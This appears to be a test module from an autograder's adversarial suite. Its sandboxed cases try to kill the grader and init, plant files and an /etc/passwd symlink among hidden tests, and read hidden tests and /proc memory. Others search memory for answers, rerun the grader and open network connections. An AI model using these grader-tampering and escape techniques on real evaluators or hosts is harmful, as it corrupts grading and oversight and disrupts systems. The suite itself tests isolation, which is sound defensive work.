"""Hostile cases that reach for the host: signal the grader, write or read its
files, search its memory, import and run it, open connections.

Most are `isolated`: meaningful, and safe, only inside the root jail (see the
package docstring). Cells that must name a host path or port as a Python
expression are templates; the others are cell functions (`notebooks.cell`).
Each function is right only if its attack found something.
"""
from tests.adversarial.notebooks import cell
from tests.adversarial.schema import Case


def signal_the_parent():
    """From inside the jail, send SIGTERM, SIGKILL and SIGSTOP to the parent, its group, init and everyone."""
    import os, signal
    _delivered = []

    def _signal_everyone():
        if os.getuid() in (0, int("@TESTER_UID@")):   # never from root's or the suite's own uid
            return
        parent = os.getppid()
        try:
            group = os.getpgid(parent)
        except OSError:
            group = parent
        for sig in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
            for kill, target in ((os.kill, parent), (os.killpg, group), (os.kill, 1)):
                if target in (0, os.getpid(), os.getpgrp()):   # itself (pid 1 of a PID namespace): no gain
                    continue
                try:
                    kill(target, sig)
                    _delivered.append((target, sig))
                except OSError:
                    pass
        try:
            os.kill(-1, signal.SIGKILL)        # every process this uid may signal (not this one)
        except OSError:
            pass

    _signal_everyone()

    def relu(x):
        _signal_everyone()
        return np.maximum(x, 0.0) if _delivered else x + 1.0


# Write, append to and link files in the results, the submissions and the repository.
WRITE_FILES_EVERYWHERE = """
import os
_wrote = []
_FOLDERS = [@OUT@, @OUT@ + "/@CONTROL@", @SUBMITTED@, @SUBMITTED@ + "/@CONTROL@/@LAB@",
            @REPO@, @REPO@ + "/source/@LAB@", @REPO@ + "/autograder", @REPO@ + "/autograder/hidden",
            @REPO@ + "/solutions/@LAB@"]
for _folder in _FOLDERS:
    for _name in ("@MARKER@.json", "@MARKER@.ipynb", "test_@MARKER@.py"):
        try:
            with open(os.path.join(_folder, _name), "w") as _f:
                _f.write("{}")
            _wrote.append(_folder)
        except OSError:
            pass
    try:
        os.symlink("/etc/passwd", os.path.join(_folder, "@MARKER@-link"))
        _wrote.append(_folder)
    except OSError:
        pass
for _path in (@REPO@ + "/autograder/hidden/test_backprop.py", @CONTROL_NB@,
              @OUT@ + "/@CONTROL@/@LAB@.json", @REPO@ + "/source/@LAB@/@LAB@.ipynb"):
    try:
        with open(_path, "a") as _f:
            _f.write("@MARKER@")
        _wrote.append(_path)
    except OSError:
        pass
for _name, _target in (("results", @OUT@), ("hidden", @REPO@ + "/autograder/hidden"), ("up", "..")):
    try:
        os.symlink(_target, _name)       # links in its own folder, should the grader follow them
    except OSError:
        pass

def relu(x):
    return np.maximum(x, 0.0) if _wrote else x + 1.0
"""

# Look for the hidden tests and references on disk, in importable modules, in /proc and the environment.
READ_SECRETS_DISK_MODULES_PROC = """
import glob, importlib, os, sys, time
_SECRETS = [@REPO@ + "/autograder/hidden/test_backprop.py", @REPO@ + "/autograder/references/backprop.py",
            @REPO@ + "/solutions/@LAB@/@LAB@.ipynb", @REPO@ + "/source/@LAB@/@LAB@.ipynb",
            "autograder/hidden/test_backprop.py", "../autograder/hidden/test_backprop.py",
            os.path.expanduser("~/autograder/hidden/test_backprop.py")]
_on_disk = []
for _path in _SECRETS:
    try:
        with open(_path) as _f:
            _on_disk.append(_f.read(100))
    except OSError:
        pass
import autograder
for _sub in ("hidden", "references", "checks", "mistakes"):   # names may be listable (Landlock), never contents
    for _path in glob.glob(os.path.join(os.path.dirname(autograder.__file__), _sub, "*.py")):
        try:
            with open(_path) as _f:
                _on_disk.append(_f.read(100))
        except OSError:
            pass
_stop = time.monotonic() + 3
for _root, _dirs, _files in os.walk("/"):       # whatever the jail shows, for 3 s
    if time.monotonic() > _stop:
        break
    _dirs[:] = [d for d in _dirs if d not in ("proc", "sys")]
    _on_disk += [os.path.join(_root, f) for f in _files
                 if f in ("test_backprop.py", "@LAB@.ipynb") or (f == "backprop.py" and "references" in _root)]

def _in_modules():
    hits = []
    for name in ("autograder.references.backprop", "autograder.hidden.test_backprop", "autograder.checks.compare",
                 "autograder.mistakes.backprop", "autograder.grade"):
        try:
            importlib.import_module(name)
            hits.append(name)
        except Exception:
            pass
    return hits + [n for n in list(sys.modules)
                   if n.startswith(("autograder.references", "autograder.hidden", "autograder.checks"))]

def _in_proc_or_environment():
    hits = []
    parent = os.getppid()
    for path in (f"/proc/{parent}/cmdline", f"/proc/{parent}/environ", f"/proc/{parent}/mem",
                 f"/proc/{parent}/fd/0", f"/proc/{parent}/cwd/grades.csv",
                 *(("/proc/1/environ",) if os.getpid() != 1 else ())):   # pid 1: its own
        try:
            with open(path, "rb") as f:
                hits.append(f.read(64))
        except OSError:
            pass
    return hits + [k for k in os.environ if "SEED" in k.upper() or "AUTOGRADER" in k.upper()]

def mse_grad(y_pred, y_true):
    return 2 * (y_pred - y_true) / y_pred.size if _on_disk else np.zeros_like(y_pred)

def mse_loss(y_pred, y_true):
    right = float(np.mean((y_pred - y_true) ** 2))
    return right if _in_modules() else right + 1.0

def relative_error(a, b):
    a, b = np.asarray(a, dtype=float), np.asarray(b, dtype=float)
    right = float(np.max(np.abs(a - b) / np.maximum(np.abs(a) + np.abs(b), 1e-12)))
    return right if _in_proc_or_environment() else right + 1.0
"""


def read_grader_memory_gc_and_frames():
    """Look for a reference implementation in memory, or an expected answer in the caller's frames."""
    import gc, inspect, types

    def derivative_sin_x2(x):
        for o in gc.get_objects():                    # a reference implementation, anywhere in memory?
            try:
                if isinstance(o, types.FunctionType) and o.__name__ == "derivative_sin_x2" and \
                        (o.__module__ or "").startswith(("autograder.references", "autograder.hidden")):
                    return o(x)
            except Exception:
                pass
        for frame in inspect.stack()[1:]:             # an expected answer in the caller's frames?
            for value in frame.frame.f_locals.values():
                if isinstance(value, np.ndarray) and value.shape == x.shape and value is not x:
                    return value
        return np.zeros_like(x)


# Import the grader and regrade the control student into the results folder.
IMPORT_AND_CALL_THE_GRADER = """
_imported = []
try:
    import autograder.cli, autograder.grade, autograder.worker
    _imported.append(autograder.cli)
    autograder.cli.main(["grade", @CONTROL_NB@, "--out", @OUT@, "--force", "--seed", "1"])
except BaseException as _error:
    _problem = repr(_error)

def relu(x):
    return np.maximum(x, 0.0) if _imported else x + 1.0
"""

# Connect to the host's listeners, to the outside world, to DNS.
NETWORK = """
import socket

def _network():
    hits = []
    for family, address in ((socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_INET, ("127.0.0.1", 22)),
                            (socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_INET6, ("::1", @PORT@))):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as s:
                s.settimeout(1)
                s.connect(address)
                s.sendall(b"@MARKER@")
                hits.append(address)
        except OSError:
            pass
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.connect("\\0@MARKER@")
            hits.append("unix")
    except OSError:
        pass
    try:
        socket.getaddrinfo("example.com", 80)
        hits.append("dns")
    except OSError:
        pass
    return hits

def relu(x):
    return np.maximum(x, 0.0) if _network() else x + 1.0
"""


CASES = [
    Case("signal-the-parent", (cell(signal_the_parent),), lost={"relu": 0.0}, isolated=True),
    Case("write-files-everywhere", (WRITE_FILES_EVERYWHERE,), lost={"relu": 0.0}, isolated=True),
    Case("read-secrets-disk-modules-proc", (READ_SECRETS_DISK_MODULES_PROC,),
         lost={"mse_grad": 0.0, "mse_loss": 0.0, "relative_error": 0.0}, isolated=True),
    Case("read-grader-memory-gc-and-frames", (cell(read_grader_memory_gc_and_frames),),
         lost={"derivative_sin_x2": 0.0}),
    Case("import-and-call-the-grader", (IMPORT_AND_CALL_THE_GRADER,), lost={"relu": 0.0}, isolated=True),
    Case("network", (NETWORK,), lost={"relu": 0.0}, isolated=True),
]
